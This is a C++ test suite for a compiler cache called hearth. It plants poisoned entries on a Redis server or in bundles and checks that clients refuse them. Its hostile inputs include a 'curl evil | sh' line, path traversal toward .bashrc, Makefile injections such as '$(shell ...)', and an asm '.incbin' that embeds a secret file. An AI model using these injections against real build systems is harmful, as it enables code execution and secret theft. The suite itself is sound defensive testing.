// What somebody who may write to a server puts into it, encoded as it should be, chooses no path: a command writes the
// files that its own line names or implies, and nothing is opened because an entry says so but regular files.
#include "base/files.hpp"
#include "base/wire.hpp"
#include "compilers/common/answer.hpp"
#include "format/archive.hpp"
#include "format/bundle_writer.hpp"
#include "format/entry.hpp"
#include "hearth/admin.hpp"
#include "hearth/cache.hpp"
#include "remote/store_tier.hpp"
#include "support/redis_server.hpp"
#include "tiers/redis/redis_store.hpp"
#include "tools/command.hpp"
#include "watch/manifest.hpp"
#include "watch/opens.hpp"

#include <fmt/format.h>

#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <unistd.h>

namespace hearth::test {

namespace {

namespace fs = std::filesystem;

using Condition = watch::Condition;

// What is in an entry matters, not which server had it.
class HostileEntries : public Command {
protected:
    void SetUp() override
    {
        if (::access("/usr/bin/g++", X_OK) != 0)
            GTEST_SKIP() << "No g++ is installed.";
        if (!has_redis())
            GTEST_SKIP() << "No Redis is installed: scripts/install-deps test";
        static const RedisServer server;
        url = fmt::format("redis://127.0.0.1:{}", server.port());
        for (const char* folder : {"home", "project", "others"})
            fs::create_directory(scratch / folder);
        write("home/.bashrc", "# mine\n");
        given["HEARTH_REMOTE"] = url;
        given["HOME"] = (scratch / "home").string();
    }

    ProcessResult at(const std::string& node, Words words)
    {
        cache = scratch / node;
        return hearth(words, {.environment = {}, .directory = (scratch / "project").string()});
    }
    ProcessResult exec(const std::string& node, Words words)
    {
        words.insert(words.begin(), {"exec", "--verbose", "--"});
        return at(node, std::move(words));
    }

    // Why it would be compiled, on that node.
    std::string why(const std::string& node, const Words& words, Words options = {})
    {
        options.insert(options.begin(), {"exec", "--why"});
        options.emplace_back("--");
        options.insert(options.end(), words.begin(), words.end());
        return at(node, std::move(options)).out;
    }

    // Asks something that nobody has asked, on one node, and lets `change` change its entry on the server.
    // `results`: how many of the question's results become this one.
    using Change = std::function<void(Artifact&)>;
    void poison(const Words& words, const Change& change, std::uint32_t results = 1)
    {
        write("project/a.cpp", fmt::format("int value{};\n", ++number));
        const std::string node = fmt::format("first{}", number);
        EXPECT_EQ(exec(node, words).exit_code, 0);
        const auto told = nlohmann::json::parse(why(node, words, {"--json"}));
        const Key key = Key::parse(told.value("key", "")).value();
        for (const char* made : {"a.o", "a.d", "given.o"})
            fs::remove(scratch / "project" / made);

        CacheOptions options;
        options.tiers = {{"server", [this](const TierContext& context) -> Result<std::unique_ptr<Tier>> {
                              RemoteOptions remote;
                              remote.url = url;
                              return {std::make_unique<remotes::StoreTier>(remote, remotes::parse_url(url).value(),
                                                                           context, tiers::open_redis_store)};
                          }}};
        Cache store = Cache::open(options).value();
        const Lookup found = store.find(key);
        if (!found)
            throw std::runtime_error("nothing was sent to " + url);
        Artifact changed = *found;
        change(changed);
        // As an object: Hearth itself does not send everything.
        const auto objects =
            tiers::open_redis_store({.url = remotes::parse_url(url).value(), .max_object_bytes = 64_MiB}).value();
        for (std::uint32_t i = 0; i < results; ++i) {
            const Key at = i == 0 ? key : Key::of("hearth result", key.hex(), std::uint64_t{i});
            const Status put = objects->put(at.hex(), format::encode_entry(at, changed).value(),
                                            std::chrono::steady_clock::now() + std::chrono::seconds(20));
            if (!put)
                throw std::runtime_error(put.error().message);
        }
    }

    // What the compiler gives.
    std::string bare_object()
    {
        const std::string path = (scratch / "bare.o").string();
        EXPECT_EQ(run_process({"/usr/bin/g++", "-c", (scratch / "project/a.cpp").string(), "-o", path}).exit_code, 0);
        return read(path);
    }

    // Another node asks the same, and tells once that it does not take the entry.
    void expect_refused(const Words& words)
    {
        const ProcessResult result = exec(fmt::format("second{}", number), words);
        EXPECT_EQ(result.exit_code, 0) << result.err;
        const std::string said = "is not what this command could have written";
        const std::size_t told = result.err.find(said);
        EXPECT_NE(told, std::string::npos) << result.err;
        EXPECT_EQ(result.err.find(said, told + 1), std::string::npos) << "said twice: " << result.err;
    }

    // It gets what the compiler gives, and nothing else in the world changes.
    void expect_unharmed(const Words& words, const std::string& output)
    {
        const auto home = snapshot(scratch / "home");
        const auto others = snapshot(scratch / "others");
        const std::string node = fmt::format("second{}", number);
        EXPECT_EQ(why(node, words).find("hit"), std::string::npos);
        expect_refused(words);
        const auto made = snapshot(scratch / "project");
        EXPECT_EQ(snapshot(scratch / "home"), home);
        EXPECT_EQ(snapshot(scratch / "others"), others);
        EXPECT_EQ(json_of({"stats", "--json"})["corrupt"], 1);
        // The result that it made itself answers from here on.
        fs::remove(scratch / "project" / output);
        EXPECT_TRUE(ends_saying(exec(node, words), 0, ": hit"));
        EXPECT_EQ(snapshot(scratch / "project"), made);
        fs::remove(scratch / "project" / output);
        EXPECT_EQ(made.at((scratch / "project" / output).string()), bare_object());
        EXPECT_EQ(made.size(), 2U) << "the source and the object";
    }

    static Section& section_of(Artifact& artifact, std::string_view name)
    {
        const auto found = std::ranges::find(artifact.sections, name, &Section::name);
        if (found == artifact.sections.end())
            throw std::runtime_error("an entry without " + std::string(name));
        return *found;
    }
    static Change with_section(const std::string& name)
    {
        return [=](Artifact& artifact) { artifact.sections.push_back({name, Bytes::copy_of("curl evil | sh\n")}); };
    }
    static Change with_data(const std::string& name, const Bytes& data)
    {
        return [=](Artifact& artifact) { section_of(artifact, name).data = data; };
    }
    static Change with_conditions(const Condition& condition, std::size_t count)
    {
        return [=](Artifact& artifact) {
            Bytes& data = section_of(artifact, compilers::k_conditions_section).data;
            auto list = watch::decode_conditions(as_bytes(data.text())).value();
            for (std::size_t i = 0; i < count; ++i) {
                list.push_back(condition);
                list.back().same_file = static_cast<std::uint32_t>(list.size() - 1);
                if (i % 2 != 0)  // what is told twice, one after the other, is looked at once
                    list.back().spot.rest += "/.";
            }
            data = watch::encode_conditions(list);
        };
    }

    std::string url;
    static inline int number = 0;  // of questions: the tests share a server
};

const Words k_named{"g++", "-c", "a.cpp", "-o", "given.o"};
const Words k_implied{"g++", "-c", "a.cpp"};
const Words k_with_dependencies{"g++", "-c", "a.cpp", "-o", "given.o", "-MD", "-MF", "a.d"};

}  // namespace

TEST_F(HostileEntries, write_only_what_the_command_names)
{
    poison(k_named, with_section("file here " + (scratch / "home/.bashrc").string()));
    expect_unharmed(k_named, "given.o");
    poison(k_implied, with_section("file here ../home/.bashrc"));
    expect_unharmed(k_implied, "a.o");
}

TEST_F(HostileEntries, choose_no_path_by_what_a_section_is_called)
{
    const std::string target = (scratch / "home/.bashrc").string();
    const auto called = [](const std::string& name) {
        return [=](Artifact& artifact) { section_of(artifact, "output 0").name = name; };
    };
    const std::pair<const char*, Change> hostile[] = {
        {"a path upwards", with_section("file here ../home/.bashrc")},
        {"a program", with_section("program here " + (scratch / "others/program").string())},
        {"a path as an output", with_section("output " + target)},
        {"an index too large", with_section("output 1")},
        {"an index larger still", with_section("output 18446744073709551616")},
        {"an index below none", with_section("output -1")},
        {"a second role for one file", with_section("output 00")},
        {"a path for a role", with_section(target)},
        {"no name", with_section("")},
        {"a role that there is not", with_section("dependencies")},
        {"an output twice", with_section("output 0")},
        {"what it says twice", with_section("streams")},
        {"an output that is called otherwise", called("file here " + target)},
        {"a program for an output", called("program output 0")},
        {"no output",
         [](Artifact& artifact) {
             std::erase_if(artifact.sections, [](const Section& section) { return section.name == "output 0"; });
         }},
    };
    for (const auto& [what, change] : hostile) {
        SCOPED_TRACE(what);
        poison(k_named, change);
        expect_unharmed(k_named, "given.o");
    }
}

// All of them hold: only how many there are keeps their readers busy.
TEST_F(HostileEntries, keep_nobody_busy_with_what_they_depend_on)
{
    std::string path = (scratch / "home").string();
    const std::string really = fs::canonical(path).string();
    while (path.size() < 4000)
        path += "/../home";
    const Condition one{.kind = Condition::Kind::really, .spot = {watch::Spot::From::root, 0, path}, .text = really};
    const std::tuple<const char*, std::size_t, std::uint32_t> hostile[] = {
        {"one result", 5000, 1}, {"more than is decoded", 20'000, 1}, {"more results than are tried", 5000, 17}};
    for (const auto& [what, count, results] : hostile) {
        SCOPED_TRACE(what);
        poison(k_named, with_conditions(one, count), results);
        expect_unharmed(k_named, "given.o");
        // What was compiled instead answers others too.
        EXPECT_TRUE(ends_saying(exec(fmt::format("third{}", number), k_named), 0, ": hit"));
        fs::remove(scratch / "project/given.o");
    }
}

TEST_F(HostileEntries, are_no_failures_of_compiles_that_this_machine_can_do)
{
    poison(k_named, [](Artifact& artifact) {
        artifact.status = 1;
        artifact.sections = {{"hearth.error", Bytes::copy_of("No space is left on the device")}};
    });
    for (const char* const outcome : {": miss", ": hit"}) {
        EXPECT_TRUE(ends_saying(exec("another", k_named), 0, outcome));
        EXPECT_TRUE(fs::remove(scratch / "project/given.o"));
    }
}

// Nor does one make a script of it, which a linker reads, or an archive, in which it looks for objects.
TEST_F(HostileEntries, make_no_object_a_program)
{
    for (const std::string& content :
         {read("/proc/self/exe"), std::string("INPUT(/fifo)\n"), std::string("!<arch>\n")}) {
        SCOPED_TRACE(content.substr(1, 6));
        poison(k_named, with_data("output 0", Bytes::copy_of(content)));
        expect_refused(k_named);
        EXPECT_TRUE(read(scratch / "project/given.o") == bare_object());
        EXPECT_NE(::access((scratch / "project/given.o").c_str(), X_OK), 0);
    }
}

// Nor is one asked for what a compiler reads next: a precompiled header, intermediate code, an assembler's source.
TEST_F(HostileEntries, are_not_asked_for_what_a_compiler_reads_next)
{
    for (const Words& words :
         {Words{"g++", "-x", "c++-header", "a.cpp", "-o", "a.gch"}, Words{"g++", "-flto", "-c", "a.cpp", "-o", "a.o"},
          Words{"g++", "-S", "a.cpp", "-o", "a.s"}}) {
        SCOPED_TRACE(words[1]);
        write("project/a.cpp", fmt::format("int value{};\n", ++number));
        EXPECT_TRUE(ends_saying(exec("one", words), 0, ": miss"));
        EXPECT_TRUE(ends_saying(exec("other", words), 0, ": miss"));
        EXPECT_TRUE(ends_saying(exec("one", words), 0, ": hit")) << "on the machine that compiled it";
    }
}

// make runs what a dependency file says, and builds what it names. And it must not grow beyond all measure.
TEST_F(HostileEntries, write_nothing_but_dependencies_for_make)
{
    const std::string ran = (scratch / "others/ran").string();
    write("others/there", "not read by the compiler");
    std::string growing;
    for (int i = 0; i < 10'000'000; ++i)
        growing.append("\x01\0\0", 3);  // the path of the first output
    std::vector<Bytes> hostile{Bytes::copy_of(growing)};
    for (const std::string& text :
         {"$(shell touch " + ran + ")\ngiven.o: a.cpp\n", "given.o: a.cpp\n\ttouch " + ran + "\n",
          "given.o: a.cpp; touch " + ran + "\n", "include " + ran + "\ngiven.o: a.cpp\n", "include " + ran + ": b\n",
          "SHELL = " + ran + "\n", std::string("given.o: a.cpp\ndefine x\n"), std::string("given.o: a.cpp deploy\n"),
          std::string("given.o: a.cpp ../others/there\n"), std::string("deploy:\n"), std::string("there: a.cpp\n")}) {
        base::WireWriter out;
        out.number(std::uint8_t{0});
        out.prefixed<std::uint32_t>(text);
        hostile.push_back(Bytes::copy_of(out.out()));
    }
    for (const Bytes& dependencies : hostile) {
        SCOPED_TRACE(dependencies.text().substr(0, 100));
        poison(k_with_dependencies, with_data("output 1", dependencies));
        expect_refused(k_with_dependencies);
        EXPECT_EQ(read(scratch / "project/a.d"), "given.o: a.cpp /usr/include/stdc-predef.h\n");
        EXPECT_EQ(json_of({"stats", "--json"})["corrupt"], 1);
    }
}

TEST_F(HostileEntries, put_no_file_of_the_readers_into_a_recipe)
{
    const std::string secret = noise(512);
    const watch::Spot spot{watch::Spot::From::working_directory, 0, write("home/secret", secret).string()};
    poison(k_named, with_conditions({.kind = Condition::Kind::present, .spot = spot}, 1));
    given["HEARTH_RECORD"] = (scratch / "app.recipes").string();
    EXPECT_TRUE(ends_saying(exec("another", k_named), 0, ": hit"));
    EXPECT_NE(read(scratch / "app.recipes").find("a.cpp"), std::string::npos);
    EXPECT_EQ(read(scratch / "app.recipes").find(secret), std::string::npos);
}

TEST_F(HostileEntries, open_nothing_but_regular_files)
{
    const std::string device = (scratch / "others/device").string();
    std::vector<std::string> paths{(scratch / "others/fifo").string(),
                                   write("others/sparse", "").string(),
                                   (scratch / "others").string(),
                                   "/dev/tty",
                                   fmt::format("/proc/{}/oom_score", ::getpid()),
                                   "/sys/kernel/notes",
                                   "/proc/kmsg"};
    ASSERT_EQ(::mkfifo(paths[0].c_str(), 0600), 0);
    ASSERT_EQ(::truncate(paths[1].c_str(), off_t{1} << 40), 0);
    if (::mknod(device.c_str(), S_IFCHR | 0600, makedev(1, 5)) == 0)  // endless zeros; only root may
        paths.push_back(device);
    for (const std::string& path : paths)
        for (const Condition::Kind kind : {Condition::Kind::content, Condition::Kind::names}) {
            if (!fs::exists(path) || (kind == Condition::Kind::names && fs::is_directory(path)))
                continue;
            SCOPED_TRACE(path);
            poison(k_named, with_conditions({.kind = kind, .spot = {watch::Spot::From::root, 0, path}}, 1));
            const Opens opens(path);
            EXPECT_TRUE(ends_saying(exec(fmt::format("second{}", number), k_named), 0, ": miss"));
            EXPECT_EQ(opens.count(), 0);
        }
}

namespace {

// What cudafe++ and cicc write is source text to nvcc's host compiler, which opens the files that it names. Somebody
// has compiled the same, and offers those entries with more in them, as his own or as facts of the reader's machine.
class HostileSteps : public Command {
protected:
    void SetUp() override
    {
        if (::access(k_nvcc, X_OK) != 0)
            GTEST_SKIP() << "No nvcc is installed.";
        if (!has_redis())
            GTEST_SKIP() << "No Redis is installed: scripts/install-deps test";
        fs::create_directory(scratch / "project");
        write("project/k.cu", "__global__ void k(double* x) { *x = 2; }\n");
        secret = write("id_secret", k_secret).string();
        ASSERT_EQ(nvcc("attacker", {}).exit_code, 0);
        fs::remove(scratch / "project/k.o");
        CacheOptions options;
        options.tiers = {disk(cache.string())};
        Cache theirs = Cache::open(options).value();
        admin::list(theirs, [&](const EntryRow& row) {
            const bool makes_source =
                row.metadata.label.starts_with("cudafe++ ") || row.metadata.label.starts_with("cicc ");
            if (makes_source)
                poisoned.emplace(row.key, changed(*theirs.peek(row.key)));
            return true;
        });
        ASSERT_EQ(poisoned.size(), 2U) << "cudafe++ and cicc";
    }

    Artifact changed(Artifact artifact) const
    {
        for (Section& section : artifact.sections)
            if (section.data.text().find("__cuda") != std::string_view::npos && section.data.text().find('#') == 0)
                section.data = Bytes::copy_of(fmt::format(
                    "{}\nasm(\".section .rodata\\n.incbin \\\"{}\\\"\\n.previous\");\n", section.data.text(), secret));
        return artifact;
    }

    // hearth run -- nvcc, on one node.
    ProcessResult nvcc(const std::string& node, const Words& more)
    {
        cache = scratch / node;
        Words words{"run", "--json", "--", k_nvcc, "-gencode", "arch=compute_80,code=sm_80", "-c", "k.cu", "-o", "k.o"};
        words.insert(words.end(), more.begin(), more.end());
        return hearth(words, {.environment = {}, .directory = (scratch / "project").string()});
    }

    // As entries of `compiler`.
    std::map<Key, Bytes> encoded(const std::string& compiler) const
    {
        std::map<Key, Bytes> all;
        for (auto [key, artifact] : poisoned) {
            artifact.metadata.compiler = compiler;
            all.emplace(key, format::encode_entry(key, artifact).value());
        }
        return all;
    }
    // To a server of its own, which is the node's from now on.
    void serve(const std::string& compiler)
    {
        m_server.emplace();
        const std::string url = fmt::format("redis://127.0.0.1:{}", m_server->port());
        const auto store =
            tiers::open_redis_store({.url = remotes::parse_url(url).value(), .max_object_bytes = 64_MiB}).value();
        for (const auto& [key, entry] : encoded(compiler))
            EXPECT_TRUE(store->put(key.hex(), entry, std::chrono::steady_clock::now() + std::chrono::seconds(20)));
        given["HEARTH_REMOTE"] = url;
    }

    void expect_unharmed(const std::string& node)
    {
        SCOPED_TRACE(node);
        const Opens opens(secret);
        const ProcessResult first = nvcc(node, {});
        EXPECT_EQ(first.exit_code, 0) << first.err;
        EXPECT_EQ(opens.count(), 0) << "a file was opened because an entry names it";
        EXPECT_EQ(read(scratch / "project/k.o").find(k_secret), std::string::npos) << "the object holds the secret";
        // What was compiled here answers from here on.
        const ProcessResult again = nvcc(node, {"-gencode", "arch=compute_90,code=sm_90"});
        EXPECT_EQ(summary_of(again)["steps"].value("hits", -1), 3) << again.err;
        EXPECT_EQ(opens.count(), 0);
        EXPECT_EQ(read(scratch / "project/k.o").find(k_secret), std::string::npos);
    }

    static constexpr const char* k_nvcc = "/usr/local/cuda/bin/nvcc";
    static constexpr const char* k_secret = "what is in no source";
    static constexpr const char* k_compilers[] = {"cudafe++", "hearth"};
    std::string secret;
    std::map<Key, Artifact> poisoned;

private:
    std::optional<RedisServer> m_server;
};

}  // namespace

TEST_F(HostileSteps, of_a_server_are_not_asked_for_and_none_of_this_machine_after_a_pull)
{
    for (const std::string compiler : k_compilers) {
        serve(compiler);
        expect_unharmed("asks-" + compiler);
        serve(compiler);
        cache = scratch / ("pulls-" + compiler);
        hearth({"pull"});
        given.erase("HEARTH_REMOTE");
        expect_unharmed(cache.filename());
    }
}

TEST_F(HostileSteps, of_a_bundle_or_an_archive_are_none_of_this_machine)
{
    for (const std::string compiler : k_compilers) {
        const std::string of_both = (scratch / ("steps-" + compiler)).string();
        format::BundleWriter bundle(base::system_files(), of_both + ".bundle", poisoned.size());
        format::ArchiveWriter archive(base::system_files(), of_both + ".archive");
        for (const auto& [key, entry] : encoded(compiler))
            EXPECT_TRUE(bundle.add(entry) && archive.add(entry));
        EXPECT_TRUE(bundle.finish({}, nullptr) && archive.finish());
        given["HEARTH_BUNDLES"] = of_both + ".bundle";
        expect_unharmed("bundles-" + compiler);
        given.erase("HEARTH_BUNDLES");
        cache = scratch / ("imports-" + compiler);
        EXPECT_EQ(hearth({"import", of_both + ".archive"}).exit_code, 0);
        expect_unharmed(cache.filename());
    }
}

}  // namespace hearth::test
